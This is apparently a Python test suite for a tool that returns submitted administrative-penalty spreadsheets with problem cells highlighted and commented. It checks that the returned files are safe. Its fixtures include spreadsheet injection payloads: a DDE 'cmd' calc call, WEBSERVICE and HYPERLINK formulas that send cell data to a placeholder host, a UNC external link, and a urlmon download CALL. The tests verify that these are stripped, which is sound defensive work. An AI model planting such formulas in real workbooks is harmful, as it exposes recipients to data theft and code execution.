"""A file given back with its problems marked: own workbook or a new one, safe, and fit to be sent again."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from ecredit.facts.collection import marking, marking_fresh
from ecredit.facts.collection.marked_workbook import write_marked_workbook
from ecredit.facts.collection.marking import MarkedCopy, MarkedProblem, write_marked
from ecredit.facts.collection.reading import ReadLimits, open_table
from ecredit.facts.collection.reading_limits import LINE_HEADER, PROBLEM_SHEET
from ecredit.foundation.kernel.errors import InputRefused
from tests.penalty_rows import HEADER, code, row

KNOWN = frozenset({"名称", "代码", "日期"})
BAD = "FFC7CE"


def own_workbook(path: Path) -> Path:
    with xlsxwriter.Workbook(str(path)) as book:
        sheet: Any = book.add_worksheet("处罚")
        sheet.merge_range("A1:C1", "某市信息公示表")
        sheet.write_row("A2", ["名称", "代码", "日期"])
        sheet.write_row("A3", ["甲店", "A1", "2026-05-08"])
        sheet.merge_range("A4:A5", "乙店")
        sheet.write_formula("B4", '=HYPERLINK("http://x")', None, "链接")
        sheet.write_formula("B5", "=1+1", None, "")
        sheet.write_string("C4", "=cmd|' /C calc'!A0")
        sheet.write_url("C5", "https://example.org", None, "长期")
        sheet.write_string("E9", "表外的备注")
        other = book.add_worksheet("说明")
        other.write_string(0, 0, "@请勿修改")
        book.define_name("外部", "='[别的.xlsx]表'!$A$1")
    return path


def mark(source: Path, problems: list[MarkedProblem], out: Path) -> MarkedCopy:
    limits = ReadLimits(scratch=out.parent)
    return write_marked(
        source, filename=source.name, known_headers=KNOWN, problems=problems, out=out, limits=limits
    )


def cells(path: Path, sheet: str) -> dict[str, Any]:
    book = openpyxl.load_workbook(path)
    return {cell.coordinate: cell for line in book[sheet].iter_rows() for cell in line}


def rows_of(path: Path) -> list[tuple[int, tuple[str, ...]]]:
    with open_table(path, filename=path.name, known_headers=KNOWN) as table:
        return [
            (line, row)
            for block in table.blocks()
            for line, row in zip(
                block.lines.tolist(), zip(*(c.to_pylist() for c in block.columns), strict=True), strict=True
            )
        ]


def assert_harmless(path: Path) -> None:
    for sheet in openpyxl.load_workbook(path).worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f"
                assert not str(cell.value or "").startswith(("=", "+", "@"))


def test_own_workbook_comes_back_marked_and_harmless(tmp_path: Path) -> None:
    source = own_workbook(tmp_path / "sent.xlsx")
    out = tmp_path / "marked.xlsx"
    problems = [
        MarkedProblem(3, 1, "代码不对 / wrong code", "uscc_check_digit", "请核对"),
        MarkedProblem(3, 1, "第二个问题"),
        MarkedProblem(5, None, "整行重复", "duplicate"),
    ]
    copy = mark(source, problems, out)
    assert copy == MarkedCopy(out, own=True, complete=True, problems=3)
    assert_harmless(out)
    found = cells(out, "处罚")
    assert found["A1"].value == "某市信息公示表"
    assert found["E9"].value == "表外的备注"
    assert found["B3"].fill.fgColor.rgb.endswith(BAD)
    assert found["B3"].comment.text == "代码不对 / wrong code\n请核对\n第二个问题"
    assert found["A4"].fill.fgColor.rgb.endswith(BAD)  # row 5 begins inside the merged range A4:A5
    assert found["C3"].fill.fill_type is None
    assert found["B4"].value == "链接"
    assert found["C4"].value == "'=cmd|' /C calc'!A0"
    assert openpyxl.load_workbook(out).sheetnames == [PROBLEM_SHEET, "处罚", "说明"]
    listed = cells(out, PROBLEM_SHEET)
    assert [listed[f"{c}2"].value for c in "ABCDE"] == [
        3,
        "代码",
        "uscc_check_digit",
        "代码不对 / wrong code",
        "请核对",
    ]
    assert listed["A4"].value == 5
    assert {path.name for path in tmp_path.iterdir()} == {"sent.xlsx", "marked.xlsx"}


def test_a_marked_copy_sent_again_reads_as_the_first_file(tmp_path: Path) -> None:
    source = own_workbook(tmp_path / "sent.xlsx")
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    mark(source, [MarkedProblem(3, 1, "不对"), MarkedProblem(3, 2, "也不对")], first)
    assert rows_of(first) == rows_of(source)
    mark(first, [MarkedProblem(4, 1, "别处")], second)
    assert rows_of(second) == rows_of(source)
    again = cells(second, "处罚")
    assert again["B3"].comment is None
    assert again["B3"].fill.fill_type is None
    assert again["B4"].comment.text == "别处"
    assert openpyxl.load_workbook(second).sheetnames.count(PROBLEM_SHEET) == 1


def test_a_text_file_becomes_a_workbook_row_for_line(tmp_path: Path) -> None:
    source = tmp_path / "sent.csv"
    source.write_bytes(
        "某市公示表,,\r\n\r\n名称,代码,日期\r\n甲店,=1+1,2026\r\n\r\n"
        '"乙\r\n店",007,长期\r\n丙店,少一格\r\n丁店,1,2026-05-08\r\n'.encode("gb18030")
    )
    out = tmp_path / "marked.xlsx"
    problems = [MarkedProblem(4, 1, "公式"), MarkedProblem(8, None, "列数不对"), MarkedProblem(9, 2, "日期")]
    copy = mark(source, problems, out)
    assert not copy.own
    assert copy.complete
    assert_harmless(out)
    found = cells(out, "数据 Data")
    assert found["A1"].value == "某市公示表"
    assert [found[f"{c}3"].value for c in "ABC"] == ["名称", "代码", "日期"]
    assert found["B4"].value == "'=1+1"
    assert found["B4"].comment.text == "公式"
    assert [found["A6"].value, found["B6"].value] == ["乙\n店", "007"]
    assert found["A8"].value == "丙店,少一格"
    assert found["A8"].fill.fgColor.rgb.endswith(BAD)
    assert found["C9"].fill.fgColor.rgb.endswith(BAD)
    assert rows_of(out)[0] == (4, ("甲店", "=1+1", "2026"))


def test_of_a_large_file_only_the_bad_rows_come_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(marking_fresh, "_ALL_ROWS", 100)
    monkeypatch.setattr(marking, "MOST_LISTED", 2)
    source = tmp_path / "sent.tsv"
    source.write_text("名称\t代码\t日期\n" + "".join(f"店{i}\t{i}\t2026\n" for i in range(300)), "utf-8")
    out = tmp_path / "marked.xlsx"
    problems = [MarkedProblem(line, 1, "不对") for line in (10, 200, 250)]
    copy = mark(source, problems, out)
    assert (copy.complete, copy.problems) == (False, 3)
    found = cells(out, "数据 Data")
    assert [found[f"{c}1"].value for c in "ABCD"] == ["名称", "代码", "日期", LINE_HEADER]
    assert [found[f"{c}2"].value for c in "ABCD"] == ["店8", "8", "2026", 10]
    assert found["D3"].value == 200
    assert "A4" not in found
    assert "1" in cells(out, PROBLEM_SHEET)["D4"].value  # one more is not listed
    assert rows_of(out)[0] == (2, ("店8", "8", "2026"))  # the added column is not read back


def test_an_old_workbook_comes_back_as_a_new_one(tmp_path: Path) -> None:
    golden = Path(__file__).parents[1] / "golden" / "files" / "old_system.xls"
    source = tmp_path / "old.xls"
    shutil.copy(golden, source)
    out = tmp_path / "marked.xlsx"
    known = frozenset({"企业名称", "注册号", "抽查日期", "抽查结果"})
    copy = write_marked(
        source, filename="old.xls", known_headers=known, problems=[MarkedProblem(4, 1, "查不到")], out=out
    )
    assert not copy.own
    found = cells(out, "Sheet1")
    assert found["A1"].value == "抽查结果"
    assert found["B3"].value == "320411600123456"
    assert found["B4"].value == "#N/A"
    assert found["B4"].comment.text == "查不到"


def test_what_cannot_be_read_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    source = tmp_path / "sent.csv"
    source.write_bytes(b"%PDF-1.7")
    with pytest.raises(InputRefused):
        mark(source, [], tmp_path / "marked.xlsx")
    assert [path.name for path in tmp_path.iterdir()] == ["sent.csv"]


PENALTY = "dual_publicity_penalty"


def sheet_of(path: Path, rows: list[dict[str, str]], header: list[str] = HEADER) -> bytes:
    """A workbook as a clerk sends it: a title, a style, a formula, the rows."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet: Any = book.add_worksheet("处罚")
        sheet.merge_range(
            0, 0, 0, 5, "行政处罚信息表", book.add_format({"bold": True, "font_color": "#1F4E79"})
        )
        sheet.write_row(1, 0, header)
        for n, values in enumerate(rows, start=2):
            for place, code in enumerate(header):
                sheet.write_string(n, place, values.get(code, ""))
        sheet.write_formula(0, 10, '=HYPERLINK("http://x")', None, "链接")
        sheet.set_column(1, 1, 33)
    return path.read_bytes()


def marked_cells(path: Path, sheet: str = "处罚") -> dict[str, str]:
    """coordinate → comment of every marked cell."""
    return {
        place: cell.comment.text
        for place, cell in cells(path, sheet).items()
        if cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb.endswith(BAD)
    }


def place(code: str, line: int, header: list[str] = HEADER) -> str:
    return f"{openpyxl.utils.get_column_letter(header.index(code) + 1)}{line}"


def test_a_collected_workbook_comes_back_as_the_suppliers_own(collect, collector, tmp_path) -> None:
    receipt = collect(
        PENALTY, sheet_of(tmp_path / "sent.xlsx", [row(1, CF_WSH=""), row(2)]), name="处罚.xlsx"
    )
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    assert copy.own and copy.complete
    assert_harmless(copy.path)
    found = cells(copy.path, "处罚")
    assert found["A1"].value == "行政处罚信息表"
    assert found["A1"].font.bold and found["A1"].font.color.rgb == "FF1F4E79"
    assert openpyxl.load_workbook(copy.path)["处罚"].column_dimensions["B"].width > 30
    assert list(marked_cells(copy.path)) == [place("CF_WSH", 3)]


@pytest.mark.parametrize(
    ("changes", "marked", "said"),
    [
        ({"CF_NR_FK": ""}, "CF_NR_FK", "处罚类别"),
        ({"CF_YXQ": "2025/05/08"}, "CF_YXQ", "处罚决定日期"),
        ({"CF_JDRQ": "2026/05/08", "CF_GSJZQ": "2026/05/07"}, "CF_GSJZQ", "处罚决定日期"),
        ({"CF_SJLYDM": code(9)}, "CF_SJLYDM", "数据来源单位"),
        ({"CF_NR_WFFF": "-1"}, "CF_NR_WFFF", "没收违法所得"),
        ({"CF_SY": "联系电话13812345678"}, "CF_SY", "违法事实"),
        ({"CF_XDR_LB": "自然人", "CF_XDR_MC": "张三", "CF_XDR_ZJLX": "身份证"}, "CF_XDR_ZJHM", "行政相对人类别"),
        ({"CF_XDR_MC": "张三"}, "CF_XDR_MC", "行政相对人类别"),
        ({"CF_NR": "罚款30000元", "CF_NR_FK": "30000"}, "CF_NR_FK", "处罚内容"),
    ],
)  # fmt: skip
def test_the_cell_to_be_changed_is_marked_and_the_others_named(
    collect, collector, tmp_path, changes, marked, said
) -> None:
    rows = [row(1, **changes)]
    receipt = collect(PENALTY, sheet_of(tmp_path / "sent.xlsx", rows), name="处罚.xlsx")
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    found = marked_cells(copy.path)
    assert place(marked, 3) in found
    assert said in found[place(marked, 3)]
    assert not {place(code, 3) for code in ("CF_CFLB", "CF_JDRQ", "CF_CFJGDM")} & set(found)


def test_a_firm_called_a_person_is_marked_at_its_kind(collect, collector, tmp_path) -> None:
    receipt = collect(PENALTY, sheet_of(tmp_path / "a.xlsx", [row(1, CF_XDR_LB="自然人")]), name="a.xlsx")
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    assert "行政相对人名称" in marked_cells(copy.path)[place("CF_XDR_LB", 3)]


def test_the_second_row_of_a_document_is_marked_at_its_number(collect, collector, tmp_path) -> None:
    rows = [row(1), row(1, CF_SY="另一事实")]
    receipt = collect(PENALTY, sheet_of(tmp_path / "a.xlsx", rows), name="a.xlsx")
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    assert list(marked_cells(copy.path)) == [place("CF_WSH", 4)]


def test_a_start_that_cannot_be_is_marked_itself(collect, collector, tmp_path) -> None:
    rows = [row(1, CF_JDRQ="2062/05/08")]
    receipt = collect(PENALTY, sheet_of(tmp_path / "a.xlsx", rows), name="a.xlsx")
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    assert list(marked_cells(copy.path)) == [place("CF_JDRQ", 3)]


def test_where_the_file_has_no_such_column_the_one_it_depends_on_is_marked(
    collect, collector, tmp_path
) -> None:
    header = [code for code in HEADER if code != "CF_NR_FK"]
    receipt = collect(PENALTY, sheet_of(tmp_path / "a.xlsx", [row(1)], header), name="a.xlsx")
    copy = write_marked_workbook(collector, batch_id=receipt.batch_id, out=tmp_path / "marked.xlsx")
    found = marked_cells(copy.path)
    assert list(found) == [place("CF_CFLB", 3, header)] and "罚款金额" in found[place("CF_CFLB", 3, header)]


OUTSIDE = [
    'HYPERLINK("http://a.example/?"&A1)',
    'WEBSERVICE("http://a.example/"&A1)',
    "cmd|'/c calc'!A1",
    "[1]别处!$A$1",
    "'\\\\a.example\\x\\[b.xlsx]S'!A1",
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
]


@pytest.mark.parametrize("formula", OUTSIDE)
def test_names_formats_and_lists_that_reach_out_do_not_come_back(tmp_path: Path, formula: str) -> None:
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    source = own_workbook(tmp_path / "own.xlsx")
    workbook = openpyxl.load_workbook(source)
    sheet = workbook["处罚"]
    for name, text in (("bad", formula), ("good", "处罚!$A$1:$A$9")):
        workbook.defined_names[name] = DefinedName(name, attr_text=text)
        sheet.defined_names[f"{name}_here"] = DefinedName(f"{name}_here", attr_text=text)
    workbook.defined_names["macro"] = DefinedName("macro", attr_text="处罚!$A$1", xlm=True, function=True)
    for cell, text in (("A2", formula), ("A3", '$A$1="x"')):
        sheet.conditional_formatting.add(cell, FormulaRule(formula=[text]))
        sheet.add_data_validation(DataValidation(type="custom", formula1=text, sqref=cell))
    workbook.save(source)
    mark(source, [MarkedProblem(4, 0, "required", "必填", "")], out := tmp_path / "marked.xlsx")
    back = openpyxl.load_workbook(out)
    assert set(back.defined_names) == {"good"}
    assert set(back["处罚"].defined_names) >= {"good_here"}
    assert "bad_here" not in back["处罚"].defined_names
    kept = [rule.formula for each in back["处罚"].conditional_formatting for rule in each.rules]
    assert ['$A$1="x"'] in kept and [formula] not in kept
    lists = [each.formula1 for each in back["处罚"].data_validations.dataValidation]
    assert '$A$1="x"' in lists and formula not in lists
